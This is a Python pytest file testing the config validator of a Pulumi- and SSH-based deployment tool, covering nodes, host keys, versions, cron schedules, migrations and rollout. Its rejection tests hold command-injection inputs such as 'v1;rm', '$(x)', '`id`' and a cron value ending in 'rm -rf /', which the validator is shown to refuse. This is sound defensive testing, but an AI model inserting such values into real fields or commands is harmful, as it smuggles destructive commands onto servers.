"""sando_components/config.py `load(raw, secret_keys)`: values arrive as Pulumi passes them (strings,
structured ones JSON-encoded); every bad input raises ConfigError naming the exact key path."""

from __future__ import annotations

import base64
import json

import pytest

from sando_components.config import BOOTSTRAP_ITEMS, ConfigError, StackConfig, load
from unit_helpers import PRIVATE_KEY

SECRETS = frozenset({"sando:sshPrivateKey"})


@pytest.fixture
def host_key(ed25519_key) -> str:
    return ed25519_key[0]


@pytest.fixture
def node(host_key) -> dict:
    return {"name": "n1", "host": "127.0.0.2", "port": 2222, "user": "deploy", "hostKey": host_key}


def raw_config(nodes: list[dict], **extra: str) -> dict[str, str]:
    raw = {
        "sando:nodes": json.dumps(nodes),
        "sando:version": "v1",
        "sando:source": '{"repo": "/x"}',
        "sando:sshPrivateKey": PRIVATE_KEY,
        "sando:bootstrap": '{"ref": "main"}',  # required while something is managed
    }
    raw.update({f"sando:{k}": v for k, v in extra.items()})
    return raw


def error_of(raw: dict, secret_keys=SECRETS) -> str:
    with pytest.raises(ConfigError) as exc:
        load(raw, secret_keys)
    return str(exc.value)


# --- valid config and defaults ---------------------------------------------------------------------


def test_minimal_config_and_defaults(node, host_key):
    cfg = load(raw_config([node]), SECRETS)
    assert isinstance(cfg, StackConfig)
    (n,) = cfg.nodes
    assert (n.name, n.host, n.port, n.user, n.app_url) == ("n1", "127.0.0.2", 2222, "deploy", None)
    assert n.host_key == host_key
    assert cfg.version == "v1"
    assert cfg.source.repo == "/x"
    assert cfg.source.build_command == "cargo build --release --manifest-path server/Cargo.toml"
    assert cfg.source.bin_dir == "server/target/release"
    assert cfg.source.error_pages_dir == "server/deploy/error-pages"
    assert cfg.release_root == "/opt/makenotwork"
    assert cfg.service == "makenotwork"
    assert cfg.bin_names == ("server",)
    assert cfg.keep_releases == 5
    assert cfg.health_check.url == "http://127.0.0.1:3000/"
    assert cfg.health_check.timeout_seconds == 30
    assert cfg.health_check.interval_seconds == 1
    assert cfg.health_check.expect_version is False
    assert cfg.restart_warning_seconds == 0
    assert cfg.restart_warning_on_failure == "warn"
    assert cfg.cli_service_token is None
    assert cfg.ssh_agent is False and cfg.insecure_skip_host_key_check is False
    assert cfg.bootstrap.manage == BOOTSTRAP_ITEMS
    assert cfg.bootstrap.backup_schedule == "17 3 * * *"
    assert cfg.bootstrap.owner is None
    assert cfg.migrations.gate is True and cfg.migrations.dir == "server/migrations"
    assert cfg.migrations.dry_run_command == "{release}/mnw-admin migrate --dry-run --database {scratch}"
    assert (cfg.migrations.database, cfg.migrations.backup_dir) == (None, None)
    assert cfg.migrations.refuse_destructive is False and cfg.migrations.allow_destructive == ()
    assert (cfg.rollout.batch_size, cfg.rollout.pause_seconds) == (None, 0)


def test_private_key_is_kept_secret(node):
    raw = raw_config([node])
    cfg = load(raw, SECRETS)
    assert cfg.ssh_private_key.get_secret_value() == raw["sando:sshPrivateKey"]
    body = PRIVATE_KEY.splitlines()[1]
    assert body not in repr(cfg) and body not in str(cfg)


def test_node_defaults(host_key):
    cfg = load(raw_config([{"name": "prod", "host": "makenotwork.com", "hostKey": host_key}]), SECRETS)
    assert (cfg.nodes[0].port, cfg.nodes[0].user) == (22, "root")


def test_structured_and_scalar_values_as_pulumi_passes_them(node):
    cfg = load(raw_config(
        [node],
        binNames='["makenotwork", "mnw-admin"]',
        keepReleases="3",
        restartWarningSeconds="30",
        cliServiceToken="tok",
        restartWarningOnFailure="abort",
        healthCheck='{"url": "http://127.0.0.1:3000/health", "timeoutSeconds": 60, "expectVersion": true}',
        bootstrap='{"ref": "host-7", "manage": ["unit", "caddyfile", "unit"], "backupSchedule": "  5  4 * * 0 ",'
                  ' "owner": "makenotwork:makenotwork"}',
        releaseRoot="/srv/mnw/",
        sshAgent="true",
    ), SECRETS | {"sando:cliServiceToken"})
    assert cfg.bin_names == ("makenotwork", "mnw-admin")
    assert cfg.keep_releases == 3
    assert cfg.restart_warning_seconds == 30
    assert cfg.cli_service_token.get_secret_value() == "tok"
    assert cfg.restart_warning_on_failure == "abort"
    assert cfg.health_check.url == "http://127.0.0.1:3000/health"
    assert cfg.health_check.timeout_seconds == 60 and cfg.health_check.expect_version is True
    assert cfg.bootstrap.manage == ("unit", "caddyfile")  # de-duplicated, order kept
    assert cfg.bootstrap.backup_schedule == "5 4 * * 0"
    assert cfg.bootstrap.owner == "makenotwork:makenotwork"
    assert cfg.bootstrap.ref == "host-7"
    assert cfg.release_root == "/srv/mnw"
    assert cfg.ssh_agent is True


@pytest.mark.parametrize("version", ["v1", "1.0", "2", "v1.2.3-rc.1+build.5", "release_2024-05"])
def test_good_versions_stay_strings(node, version):
    assert load(raw_config([node], version=version), SECRETS).version == version


def test_host_key_comment_is_dropped(node, host_key):
    node["hostKey"] = host_key + " root@testnot"
    assert load(raw_config([node]), SECRETS).nodes[0].host_key == host_key


def test_other_namespaces_are_ignored(node):
    raw = {**raw_config([node]), "aws:region": "eu-west-1", "sandox:foo": "1"}
    assert load(raw, SECRETS).version == "v1"


def test_ssh_agent_instead_of_key(node):
    raw = raw_config([node], sshAgent="true")
    del raw["sando:sshPrivateKey"]
    assert load(raw, frozenset()).ssh_private_key is None


def test_insecure_allows_missing_host_key(node):
    del node["hostKey"]
    cfg = load(raw_config([node], insecureSkipHostKeyCheck="true"), SECRETS)
    assert cfg.nodes[0].host_key is None


# --- every bad input names its key --------------------------------------------------------------


def test_node_without_host(node):
    del node["host"]
    assert "sando:nodes[0].host: " in error_of(raw_config([node]))


def test_node_bad_host(node):
    node["host"] = "not a host;rm"
    assert "sando:nodes[0].host: " in error_of(raw_config([node]))


def test_second_node_is_named_by_index(node, host_key):
    second = {"name": "n2", "host": "127.0.0.3", "port": 0, "hostKey": host_key}
    assert "sando:nodes[1].port: " in error_of(raw_config([node, second]))


@pytest.mark.parametrize(
    "bad",
    [
        "AAAAC3NzaC1lZDI1NTE5AAAAIJScOiO1X4SKKWrV5wfplqqNkTY6tsieHK8uh79+199Q",  # no type
        "ssh-ed25519",  # no key data
        "ssh-dss AAAAB3NzaC1kc3MAAACBAP",  # not an accepted type
        "ssh-ed25519 not*base64!",
        "testnot.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJScOiO1X4SKKWrV5wfplqqNkTY6tsieHK8uh79+199Q",
    ],
)
def test_host_key_not_an_openssh_key_line(node, bad):
    node["hostKey"] = bad
    assert "sando:nodes[0].hostKey: " in error_of(raw_config([node]))


def test_host_key_type_must_match_key_data(node, host_key):
    node["hostKey"] = "ssh-rsa " + host_key.split()[1]  # an ed25519 blob labelled ssh-rsa
    msg = error_of(raw_config([node]))
    assert "sando:nodes[0].hostKey: " in msg and "ssh-rsa" in msg


def test_host_key_blob_of_another_type(node):
    blob = base64.b64encode(b"\x00\x00\x00\x07ssh-rsa" + b"\x00" * 20).decode()
    node["hostKey"] = "ssh-ed25519 " + blob
    assert "sando:nodes[0].hostKey: " in error_of(raw_config([node]))


@pytest.mark.parametrize("port", [0, 70000, -1])
def test_port_out_of_range(node, port):
    node["port"] = port
    assert "sando:nodes[0].port: " in error_of(raw_config([node]))


def test_missing_host_key_without_insecure(node):
    del node["hostKey"]
    msg = error_of(raw_config([node]))
    assert "sando:nodes[0].hostKey: " in msg and "insecureSkipHostKeyCheck" in msg


def test_unknown_top_level_key(node):
    assert "sando:bogus: unknown key" in error_of({**raw_config([node]), "sando:bogus": "1"})


@pytest.mark.parametrize("key", ["hostkey", "privateKey", "bogus"])
def test_unknown_nested_node_key(node, key):
    node[key] = "x"
    assert f"sando:nodes[0].{key}: unknown key" in error_of(raw_config([node]))


def test_unknown_nested_source_key(node):
    msg = error_of(raw_config([node], source='{"repo": "/x", "buildcommand": "make"}'))
    assert "sando:source.buildcommand: unknown key" in msg


@pytest.mark.parametrize("version", ["a/b", "..", "v 1", "v1;rm", "$(x)", "", "-v1", "v1..2", ".v1",
                                     "`id`", "v1'", "v" * 129])
def test_bad_versions(node, version):
    assert "sando:version: " in error_of(raw_config([node], version=version))


def test_empty_bin_names(node):
    assert "sando:binNames: " in error_of(raw_config([node], binNames="[]"))


@pytest.mark.parametrize("names", ['["a/b"]', '["ok", "../x"]', '[".sando"]', '["error-pages"]', '["a", "a"]'])
def test_bad_bin_names(node, names):
    assert "sando:binNames: " in error_of(raw_config([node], binNames=names))


@pytest.mark.parametrize("keep", ["0", "-1", "101"])
def test_keep_releases_out_of_range(node, keep):
    assert "sando:keepReleases: " in error_of(raw_config([node], keepReleases=keep))


def test_restart_warning_needs_token(node):
    msg = error_of(raw_config([node], restartWarningSeconds="5"))
    assert "sando:cliServiceToken: " in msg


@pytest.mark.parametrize("key", ["sshPrivateKey", "cliServiceToken"])
def test_secret_keys_must_be_secret(node, key):
    raw = raw_config([node], cliServiceToken="tok-VALUE-42")
    secret_keys = {"sando:sshPrivateKey", "sando:cliServiceToken"} - {f"sando:{key}"}
    msg = error_of(raw, secret_keys=secret_keys)
    assert f"sando:{key}: " in msg and "secret" in msg
    assert "tok-VALUE-42" not in msg and "not-checked-here" not in msg  # the value itself is never echoed


def test_key_or_agent_required(node):
    raw = raw_config([node])
    del raw["sando:sshPrivateKey"]
    assert "sando:sshPrivateKey: " in error_of(raw, frozenset())


@pytest.mark.parametrize("schedule", ["daily", "17 3 * *", "17 3 * * * rm -rf /", "17 3 * * ;", "$(x) 3 * * *"])
def test_bad_backup_schedule(node, schedule):
    raw = raw_config([node], bootstrap=json.dumps({"backupSchedule": schedule}))
    assert "sando:bootstrap.backupSchedule: " in error_of(raw)


def test_unknown_bootstrap_manage_item(node):
    raw = raw_config([node], bootstrap='{"manage": ["caddyfile", "nginx"]}')
    msg = error_of(raw)
    assert "sando:bootstrap.manage: " in msg and "nginx" in msg


def test_duplicate_node_names(node, host_key):
    other = {**node, "host": "127.0.0.3"}
    msg = error_of(raw_config([node, other]))
    assert "sando:nodes: " in msg and "n1" in msg


def test_no_nodes(node):
    assert "sando:nodes: " in error_of(raw_config([]))


@pytest.mark.parametrize("root", ["/srv/testnodes/n1", ""])
def test_node_root_prefix_is_gone(node, root):
    """Nodes are real hosts: the old per-node root prefix is refused as an unknown key."""
    node["root"] = root
    assert error_of(raw_config([node])) == \
        "sando:nodes[0].root: unknown key (check the spelling; see README 'Configuration')"


@pytest.mark.parametrize("release_root", ["/", "opt/makenotwork", "/opt/../etc"])
def test_bad_release_root(node, release_root):
    assert "sando:releaseRoot: " in error_of(raw_config([node], releaseRoot=release_root))


@pytest.mark.parametrize("name", ["n 1", "-n1", "n/1", ""])
def test_bad_node_name(node, name):
    node["name"] = name
    assert "sando:nodes[0].name: " in error_of(raw_config([node]))


def test_plain_text_for_a_structured_key_says_what_it_must_be(node):
    assert error_of({**raw_config([node]), "sando:nodes": "[{"}) == (
        "sando:nodes: must be a list of nodes ({name, host, hostKey, ...}), set in Pulumi.<stack>.yaml or with "
        "`pulumi config set --path 'sando:nodes...'`; got the plain text '[{'")


def test_several_errors_are_all_reported(node):
    node["port"] = 0
    msg = error_of(raw_config([node], keepReleases="0", version="a/b"))
    for key in ("sando:nodes[0].port: ", "sando:keepReleases: ", "sando:version: "):
        assert key in msg


@pytest.mark.parametrize("where, key", [
    ("top", "version"), ("top", "service"), ("node", "name"), ("node", "user"), ("node", "host"),
    ("node", "appUrl"), ("top", "binNames"),
])
def test_trailing_newline_is_refused(node, where, key):
    """The validators use re.fullmatch: 'value\\n' is not a valid value (a '$' anchor would let it through)."""
    extra = {}
    if where == "node":
        node[key] = (node.get(key) or "http://127.0.0.1:3000") + "\n"
    elif key == "binNames":
        extra[key] = '["server\\n"]'
    else:
        extra[key] = {"version": "v1", "service": "makenotwork"}[key] + "\n"
    assert f"sando:{'nodes[0].' if where == 'node' else ''}{key}: " in error_of(raw_config([node], **extra))


@pytest.mark.parametrize("key, value, path", [
    ("healthCheck", '{"url": "http://127.0.0.1:3000/\\n"}', "healthCheck.url"),
    ("bootstrap", '{"owner": "makenotwork\\n"}', "bootstrap.owner"),
])
def test_trailing_newline_is_refused_in_structured_keys(node, key, value, path):
    assert f"sando:{path}: " in error_of(raw_config([node], **{key: value}))


# --- only the structured keys are JSON-decoded -----------------------------------------------------


def test_numeric_service_name_is_a_string(node):
    """sando:service "2048" is valid per NAME_RE and must stay the string "2048", not become 2048."""
    assert load(raw_config([node], service="2048"), SECRETS).service == "2048"


@pytest.mark.parametrize("key, value, attr", [
    ("service", "true", "service"), ("service", "123", "service"),
    ("releaseRoot", "/opt/123", "release_root"),
])
def test_scalar_string_keys_are_not_json_decoded(node, key, value, attr):
    assert getattr(load(raw_config([node], **{key: value}), SECRETS), attr) == value


def test_scalar_numbers_and_booleans_arrive_as_strings(node):
    """Pulumi passes every scalar as a string; pydantic (lax) turns '5' into 5 and 'true' into True."""
    cfg = load(raw_config([node], keepReleases="5", sshAgent="true", insecureSkipHostKeyCheck="false",
                          restartWarningSeconds="0"), SECRETS)
    assert cfg.keep_releases == 5 and isinstance(cfg.keep_releases, int)
    assert cfg.ssh_agent is True and cfg.insecure_skip_host_key_check is False
    assert cfg.restart_warning_seconds == 0


@pytest.mark.parametrize("key", ["service", "version", "releaseRoot", "keepReleases", "sshAgent",
                                 "restartWarningSeconds", "restartWarningOnFailure"])
def test_empty_scalar_value_is_a_validation_error_naming_the_key(node, key):
    msg = error_of(raw_config([node], **{key: ""}))
    assert msg.startswith(f"sando:{key}: ") and "\n" not in msg
    assert "plain text" not in msg


@pytest.mark.parametrize("key, what", [
    ("nodes", "a list of nodes ({name, host, hostKey, ...})"), ("source", "an object"),
    ("binNames", "a list of binary names, e.g. [makenotwork, mnw-admin]"), ("healthCheck", "an object"),
    ("bootstrap", "an object"), ("migrations", "an object"), ("rollout", "an object")])
def test_empty_structured_value_says_what_it_must_be(node, key, what):
    assert error_of({**raw_config([node]), f"sando:{key}": ""}).startswith(f"sando:{key}: must be {what}, set in ")


# --- URLs of a node --------------------------------------------------------------------------------


def test_urls_without_node_app_url(node):
    cfg = load(raw_config([node]), SECRETS)
    n = cfg.nodes[0]
    assert cfg.app_url(n) == "http://127.0.0.1:3000"
    assert cfg.health_url(n) == "http://127.0.0.1:3000/"
    assert cfg.restart_warning_url(n) == "http://127.0.0.1:3000/api/internal/restart-warning"


def test_urls_with_node_app_url(node):
    node["appUrl"] = "http://127.0.0.1:41001/"
    cfg = load(raw_config([node]), SECRETS)
    n = cfg.nodes[0]
    assert n.app_url == "http://127.0.0.1:41001"
    assert cfg.app_url(n) == "http://127.0.0.1:41001"
    assert cfg.health_url(n) == "http://127.0.0.1:41001/"
    assert cfg.restart_warning_url(n) == "http://127.0.0.1:41001/api/internal/restart-warning"


def test_health_path_and_query_follow_app_url(node):
    node["appUrl"] = "https://10.0.0.5:8443"
    cfg = load(raw_config([node], healthCheck='{"url": "http://127.0.0.1:3000/healthz?full=1"}'), SECRETS)
    n = cfg.nodes[0]
    assert cfg.health_url(n) == "https://10.0.0.5:8443/healthz?full=1"
    assert cfg.restart_warning_url(n) == "https://10.0.0.5:8443/api/internal/restart-warning"


def test_health_url_without_path(node, host_key):
    other = {"name": "n2", "host": "127.0.0.3", "hostKey": host_key, "appUrl": "http://127.0.0.1:41002"}
    cfg = load(raw_config([node, other], healthCheck='{"url": "http://127.0.0.1:3000"}'), SECRETS)
    assert cfg.health_url(cfg.nodes[0]) == "http://127.0.0.1:3000"
    assert cfg.app_url(cfg.nodes[0]) == "http://127.0.0.1:3000"
    assert cfg.health_url(cfg.nodes[1]) == "http://127.0.0.1:41002/"


@pytest.mark.parametrize("url", ["127.0.0.1:3000", "http://127.0.0.1:3000/x", "ftp://h", "http://a b"])
def test_bad_app_url(node, url):
    node["appUrl"] = url
    assert "sando:nodes[0].appUrl: " in error_of(raw_config([node]))


@pytest.mark.parametrize("hc", ['{"url": "localhost:3000"}', '{"timeoutSeconds": 0}', '{"intervalSeconds": 4000}'])
def test_bad_health_check(node, hc):
    assert "sando:healthCheck." in error_of(raw_config([node], healthCheck=hc))


# --- migrations -----------------------------------------------------------------------------------


def test_migrations_settings(node):
    cfg = load(raw_config([node], migrations=json.dumps({
        "gate": False, "dir": "db/migrations/", "dryRunCommand": "{release}/admin check --db {scratch} --live {database}",
        "database": "/srv/data/mnw.db/", "backupDir": "/srv/backups", "refuseDestructive": True,
        "allowDestructive": ["v43", "v44.1"]})), SECRETS)
    m = cfg.migrations
    assert (m.gate, m.dir, m.database, m.backup_dir) == (False, "db/migrations", "/srv/data/mnw.db", "/srv/backups")
    assert m.refuse_destructive is True and m.allow_destructive == ("v43", "v44.1")


@pytest.mark.parametrize("command, words", [
    ("mnw-admin migrate --database {database}", "must run against {scratch} (the scratch copy), never the live"),
    ("mnw-admin migrate", "must run against {scratch}"),
    ("{release}/mnw-admin --db {scratch} {db}", "unknown placeholder(s) ['db']"),
    ("{releases}/x {scratch}", "unknown placeholder(s) ['releases']"),
    ("x {scratch", "has a bad placeholder"),
    ("x {} {scratch}", "unknown placeholder(s) ['']"),
])
def test_dry_run_command_placeholders(node, command, words):
    msg = error_of(raw_config([node], migrations=json.dumps({"dryRunCommand": command})))
    assert msg.startswith("sando:migrations.dryRunCommand: ") and words in msg


@pytest.mark.parametrize("command", ["x --db {scratch!r}", "x --db {scratch:d}"])
def test_dry_run_command_refuses_conversions_and_format_specs(node, command):
    assert error_of(raw_config([node], migrations=json.dumps({"dryRunCommand": command}))) == (
        "sando:migrations.dryRunCommand: placeholders take no conversion or format: write {release}, {scratch}, "
        "{database}")


@pytest.mark.parametrize("bad, words", [
    (["v 43"], "'v 43' is not a version name"),
    (["v1;rm"], "'v1;rm' is not a version name"),
    (["-v1"], "'-v1' is not a version name"),
    ("v43", "must be a list of versions, e.g. [v43]"),
])
def test_allow_destructive_entries_are_versions(node, bad, words):
    msg = error_of(raw_config([node], migrations=json.dumps({"allowDestructive": bad})))
    assert msg == f"sando:migrations.allowDestructive: {words}"


@pytest.mark.parametrize("key, value", [("database", "relative.db"), ("database", "/a/../b.db"),
                                        ("backupDir", "backups"), ("dir", "/abs"), ("dir", "../up"), ("dir", "")])
def test_migrations_paths(node, key, value):
    assert error_of(raw_config([node], migrations=json.dumps({key: value}))).startswith(f"sando:migrations.{key}: ")


# --- rollout --------------------------------------------------------------------------------------


def nodes(host_key, n):
    return [{"name": f"n{i}", "host": f"127.0.0.{i + 1}", "hostKey": host_key} for i in range(1, n + 1)]


def test_rollout_batches_in_config_order(host_key):
    raw = raw_config(nodes(host_key, 5)[::-1], rollout='{"batchSize": 2, "pauseSeconds": 2.5}')
    cfg = load(raw, SECRETS)
    assert [[n.name for n in b] for b in cfg.batches()] == [["n5", "n4"], ["n3", "n2"], ["n1"]]
    assert cfg.rollout.pause_seconds == 2.5


def test_no_rollout_is_one_batch_and_a_big_batch_too(host_key):
    assert [[n.name for n in b] for b in load(raw_config(nodes(host_key, 3)), SECRETS).batches()] == \
        [["n1", "n2", "n3"]]
    cfg = load(raw_config(nodes(host_key, 3), rollout='{"batchSize": 10}'), SECRETS)
    assert [[n.name for n in b] for b in cfg.batches()] == [["n1", "n2", "n3"]]
    cfg = load(raw_config(nodes(host_key, 3), rollout='{"batchSize": 1}'), SECRETS)
    assert [[n.name for n in b] for b in cfg.batches()] == [["n1"], ["n2"], ["n3"]]


@pytest.mark.parametrize("rollout, msg", [
    ('{"batchSize": 0}', "sando:rollout.batchSize: must be 1 or more"),
    ('{"batchSize": -2}', "sando:rollout.batchSize: must be 1 or more"),
    ('{"batchSize": 1.5}', "sando:rollout.batchSize: must be a whole number, not 1.5"),
    ('{"pauseSeconds": -1}', "sando:rollout.pauseSeconds: must be between 0 and 3600"),
    ('{"pauseSeconds": 3601}', "sando:rollout.pauseSeconds: must be between 0 and 3600"),
    ('{"batchsize": 1}', "sando:rollout.batchsize: unknown key (check the spelling; see README 'Configuration')"),
])
def test_bad_rollout(node, rollout, msg):
    assert error_of(raw_config([node], rollout=rollout)) == msg


def test_rollout_edges_are_accepted(node):
    cfg = load(raw_config([node], rollout='{"batchSize": 1, "pauseSeconds": 3600}'), SECRETS)
    assert (cfg.rollout.batch_size, cfg.rollout.pause_seconds) == (1, 3600)


# --- messages in an operator's words ------------------------------------------------------------------


def test_bin_names_as_plain_text(node):
    assert error_of(raw_config([node], binNames="makenotwork")) == (
        "sando:binNames: must be a list of binary names, e.g. [makenotwork, mnw-admin], set in Pulumi.<stack>.yaml "
        "or with `pulumi config set --path 'sando:binNames...'`; got the plain text 'makenotwork'")
    assert error_of(raw_config([node], binNames='"makenotwork"')) == \
        "sando:binNames: must be a list of binary names, e.g. [makenotwork, mnw-admin]"


def test_bin_name_with_a_space(node):
    assert error_of(raw_config([node], binNames='["a b"]')) == (
        "sando:binNames: 'a b' is not a binary name: use letters, digits, '.', '_' and '-' (no spaces, no '/')")


@pytest.mark.parametrize("key, value, msg", [
    ("keepReleases", "five", "sando:keepReleases: must be a whole number, not 'five'"),
    ("sshAgent", "maybe", "sando:sshAgent: must be true or false, not 'maybe'"),
    ("restartWarningOnFailure", "explode", "sando:restartWarningOnFailure: must be 'warn' or 'abort'"),
    ("nodes", '[{"name": "n1", "host": "h", "port": "ssh"}]', "sando:nodes[0].port: must be a whole number, not 'ssh'"),
    ("nodes", '[{"name": 7, "host": "h"}]', "sando:nodes[0].name: must be text, not 7"),
    ("nodes", '["n1"]', "sando:nodes[0]: must be an object with named keys (see README 'Configuration')"),
    ("nodes", '{"name": "n1"}', "sando:nodes: must be a list of nodes ({name, host, hostKey, ...})"),
    ("healthCheck", '{"timeoutSeconds": "long"}', "sando:healthCheck.timeoutSeconds: must be a number, not 'long'"),
    ("bootstrap", '{"manage": "unit"}', "sando:bootstrap.manage: must be a list of bootstrap items, e.g. "
                                        "['caddyfile', 'unit', 'sshdGit', 'fail2ban', 'firewall', 'backup']"),
    ("source", '{}', "sando:source.repo: is required"),
])
def test_type_errors_in_operator_words(node, key, value, msg):
    # (nodes without a hostKey: insecure, so that the type error is the one problem)
    assert error_of({**raw_config([node], insecureSkipHostKeyCheck="true"), f"sando:{key}": value}) == msg


JARGON = ["Input should be", "valid tuple", "valid list", "valid dictionary", "Extra data", "JSON", "pydantic",
          "Field required", "type=", "For further information", "Value error", "Unable to parse"]

BAD = [
    ("nodes", "makenotwork"), ("nodes", "5"), ("nodes", "null"), ("nodes", "[5]"), ("nodes", "[[1]]"),
    ("nodes", '[{"name": "n", "host": "h"}] trailing'), ("nodes", '[{"name": "n", "host": ["h"]}]'),
    ("nodes", '[{"name": "n", "host": "h", "port": 1.5}]'), ("nodes", '[{"name": "n", "host": "h", "port": null}]'),
    ("nodes", '[{"name": "n", "host": "h", "hostKey": 5}]'), ("nodes", '[{"name": "n", "host": "h", "appUrl": []}]'),
    ("nodes", '[{"name": "n", "host": "h", "user": {"a": 1}}]'), ("nodes", "{"), ("nodes", ""),
    ("binNames", "makenotwork"), ("binNames", '"makenotwork"'), ("binNames", "[1]"), ("binNames", "[null]"),
    ("binNames", '[["a"]]'), ("binNames", "true"), ("binNames", '{"a": 1}'), ("binNames", "[a, b]"),
    ("source", "/x"), ("source", '"x"'), ("source", "[1]"), ("source", '{"repo": 1}'),
    ("source", '{"repo": "/x", "binDir": 5}'), ("source", '{"repo": "/x"} extra'),
    ("healthCheck", '{"timeoutSeconds": "abc"}'), ("healthCheck", '{"expectVersion": "maybe"}'),
    ("healthCheck", '{"url": 5}'), ("healthCheck", "[]"), ("healthCheck", '{"timeoutSeconds": null}'),
    ("bootstrap", '{"manage": "unit"}'), ("bootstrap", '{"manage": [1]}'), ("bootstrap", '{"owner": 5}'),
    ("bootstrap", '{"manage": {"a": 1}}'), ("bootstrap", '{"backupSchedule": ["17", "3"]}'),
    ("migrations", '{"gate": "maybe"}'), ("migrations", '{"allowDestructive": "v1"}'),
    ("migrations", '{"allowDestructive": [1]}'), ("migrations", '{"dryRunCommand": 5}'),
    ("migrations", '{"database": 5}'), ("migrations", "x"), ("migrations", "[1]"), ("migrations", "7"),
    ("rollout", '{"batchSize": "x"}'), ("rollout", '{"batchSize": 1.5}'), ("rollout", '{"pauseSeconds": "x"}'),
    ("rollout", "2"), ("rollout", '{"batchSize": [1]}'),
    ("keepReleases", "x"), ("keepReleases", "1.5"), ("keepReleases", "[1]"), ("keepReleases", ""),
    ("sshAgent", "maybe"), ("restartWarningOnFailure", "maybe"), ("restartWarningSeconds", "1.5"),
    ("insecureSkipHostKeyCheck", "2"),
]


@pytest.mark.parametrize("key, value", BAD)
def test_no_library_jargon_in_any_type_error(node, key, value):
    msg = error_of({**raw_config([node], insecureSkipHostKeyCheck="true"), f"sando:{key}": value})
    assert msg.startswith(f"sando:{key}"), msg
    for word in JARGON:
        assert word not in msg, msg


@pytest.mark.parametrize("key, value", [
    ("nodes", '[{"name": "n1", "host": "h", "port": NaN}]'),
    ("nodes", '[{"name": "n1", "host": "h", "port": Infinity}]'),
    ("rollout", '{"batchSize": NaN}'),
])
def test_no_library_jargon_for_non_finite_numbers(node, key, value):
    msg = error_of({**raw_config([node]), f"sando:{key}": value})
    for word in JARGON:
        assert word not in msg, msg


# --- per-node access: own keys, proxyJump --------------------------------------------------------


def test_a_node_may_have_its_own_key_and_a_proxy_jump(node, host_key, ed25519_key):
    other = {**node, "name": "n2", "proxyJump": {"host": "bastion.example", "hostKey": host_key}}
    own = ed25519_key[1]
    raw = raw_config([node, other], nodeKeys=json.dumps({"n2": own}))
    cfg = load(raw, SECRETS | {"sando:nodeKeys"})
    n1, n2 = cfg.nodes
    assert cfg.private_key(n2).get_secret_value() == own
    assert cfg.private_key(n1) is cfg.ssh_private_key  # the stack's key for the others
    assert own.splitlines()[1] not in repr(cfg) and own.splitlines()[1] not in str(cfg.node_keys)
    jump = n2.proxy_jump
    assert (jump.host, jump.port, jump.user, jump.host_key) == ("bastion.example", 22, "root", host_key)


def test_sando_commands_reach_a_node_as_the_program_does(node, host_key, ed25519_key):
    """status/promote/rollback/logs/ssh/restart (fleet.conn): the node's own key, its proxyJump, a
    local shell for a local node, as the providers connect (stack.connection)."""
    from sando_components import fleet

    other = {**node, "name": "n2", "proxyJump": {"host": "bastion.example", "hostKey": host_key}}
    raw = raw_config([node, other, {"name": "here", "local": True}], nodeKeys=json.dumps({"n2": ed25519_key[1]}))
    cfg = load(raw, SECRETS | {"sando:nodeKeys"})
    n1, n2, here = (fleet.conn(cfg, n) for n in cfg.nodes)
    assert (n1.host, n1.port, n1.user, n1.jump, n1.private_key) == ("127.0.0.2", 2222, "deploy", None, PRIVATE_KEY)
    assert n2.private_key == ed25519_key[1] and n2.jump.host == "bastion.example"
    assert n2.jump.host_key == host_key and n2.jump.private_key == ed25519_key[1]
    assert here.local and here.node == "here"


def test_node_keys_must_be_secret_readable_and_name_nodes(node, ed25519_key):
    raw = raw_config([node], nodeKeys=json.dumps({"n1": ed25519_key[1]}))
    assert error_of(raw) == ("sando:nodeKeys: must be set as a secret: "
                             "pulumi config set --secret --path 'sando:nodeKeys.NODE' < KEYFILE")
    raw = raw_config([node], nodeKeys=json.dumps({"n9": ed25519_key[1], "n1": "garbage"}))
    msg = error_of(raw, SECRETS | {"sando:nodeKeys"})
    assert "sando:nodeKeys.n9: names no node of sando:nodes (n1)" in msg
    assert "sando:nodeKeys.n1: is not a private key sando can read" in msg and "garbage" not in msg


def test_without_a_stack_key_every_node_needs_its_own(node, ed25519_key):
    raw = raw_config([node, {**node, "name": "n2"}], nodeKeys=json.dumps({"n2": ed25519_key[1]}))
    del raw["sando:sshPrivateKey"]
    assert error_of(raw, {"sando:nodeKeys"}) == (
        "sando:sshPrivateKey: is required (or sando:sshAgent: true, or every node's own key in sando:nodeKeys; "
        "without one: n1): pulumi config set --secret sando:sshPrivateKey < KEYFILE")
    raw["sando:nodeKeys"] = json.dumps({"n1": ed25519_key[1], "n2": ed25519_key[1]})
    assert load(raw, {"sando:nodeKeys"}).ssh_private_key is None


@pytest.mark.parametrize("jump, expected", [
    ({"host": "b.example"}, "sando:nodes[0].proxyJump.hostKey: is required"),
    ({"host": "not a host"}, "sando:nodes[0].proxyJump.host: must be an IP address or a DNS name"),
    ({"host": "b.example", "port": 0}, "sando:nodes[0].proxyJump.port: must be between 1 and 65535"),
    ({"host": "b.example", "via": "x"}, "sando:nodes[0].proxyJump.via: unknown key"),
])
def test_proxy_jump_errors_name_the_key(node, host_key, jump, expected):
    if "hostKey" not in expected:
        jump = {**jump, "hostKey": host_key}
    assert error_of(raw_config([{**node, "proxyJump": jump}])).startswith(expected)


def _encrypted_key(tmp_path) -> str:
    import subprocess

    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "a passphrase", "-f", str(tmp_path / "k")], check=True)
    return (tmp_path / "k").read_text()


@pytest.mark.parametrize("kind, words", [
    ("garbage", "sando:sshPrivateKey: is not a private key sando can read (ed25519, ECDSA or RSA in OpenSSH or "
                "PEM form): pulumi config set --secret sando:sshPrivateKey < KEYFILE"),
    ("public", "sando:sshPrivateKey: is not a private key sando can read"),
    ("passphrase", "sando:sshPrivateKey: is protected by a passphrase, which sando cannot type"),
])
def test_an_unreadable_private_key_is_refused(node, tmp_path, host_key, kind, words):
    text = {"garbage": "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH PRIVATE KEY-----\n",
            "public": host_key, "passphrase": _encrypted_key(tmp_path) if kind == "passphrase" else ""}[kind]
    msg = error_of({**raw_config([node]), "sando:sshPrivateKey": text})
    assert msg.startswith(words), msg
    assert not [line for line in text.splitlines() if not line.startswith("-----") and line in msg]  # not quoted


def test_ssh_agent_needs_an_agent(node):
    raw = raw_config([node], sshAgent="true")
    del raw["sando:sshPrivateKey"]
    with pytest.raises(ConfigError) as exc:
        load(raw, frozenset(), env={"PATH": "/usr/bin"})
